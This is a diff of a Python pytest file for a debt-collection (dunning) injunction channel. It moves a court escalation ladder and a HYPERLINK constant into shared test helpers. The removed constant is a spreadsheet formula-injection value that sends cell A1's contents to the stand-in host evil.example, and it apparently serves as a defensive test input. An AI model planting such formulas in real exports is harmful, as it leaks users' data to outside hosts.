@@ -10,7 +10,6 @@ import zipfile
 from pathlib import Path
 
 import pytest
-import yaml
 from pypdf import PdfReader
 from stdnum.exceptions import InvalidFormat
 from stdnum.exceptions import ValidationError as StdnumError
@@ -18,19 +17,9 @@ from stdnum.exceptions import ValidationError as StdnumError
 from dunning.channels import injunction
 from dunning.channels.injunction import siren
 from tests.conftest import Portfolio
-from tests.helpers import approve_pending, as_json, day, run
+from tests.helpers import COURT_LADDER, HYPERLINK, approve_pending, as_json, change_policy, day, run
 
 pytestmark = pytest.mark.usefixtures("prefect_server")
-HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
-
-LADDER = [
-    {"name": "friendly_reminder", "channel": "email", "days_after_due": 3,
-     "template": "friendly_reminder"},
-    {"name": "formal_notice", "channel": "letter", "days_after_due": 10,
-     "requires_approval": True, "template": "formal_notice"},
-    {"name": "injunction", "channel": "injunction", "days_after_due": 20,
-     "min_days_since_previous": 3, "requires_approval": True},
-]
 
 
 @pytest.fixture
@@ -38,10 +27,8 @@ def court_dir(workdir: Path, policy_file: Path, monkeypatch: pytest.MonkeyPatch)
     folder = workdir / "court"
     monkeypatch.setenv("DUNNING_INJUNCTIONS_DIR", str(folder))
     monkeypatch.setenv("DUNNING_LETTERS_DIR", str(workdir / "letters"))
-    data = yaml.safe_load(policy_file.read_text(encoding="utf-8"))
-    data["stages"] = LADDER
-    data["law"] = {"rate": "12.15"}  # the 2026-H2 reference rate is not in rates.yaml yet
-    policy_file.write_text(yaml.safe_dump(data), encoding="utf-8")
+    # the 2026-H2 reference rate is not in rates.yaml yet
+    change_policy(policy_file, stages=COURT_LADDER, law={"rate": "12.15"})
     return folder
 
 
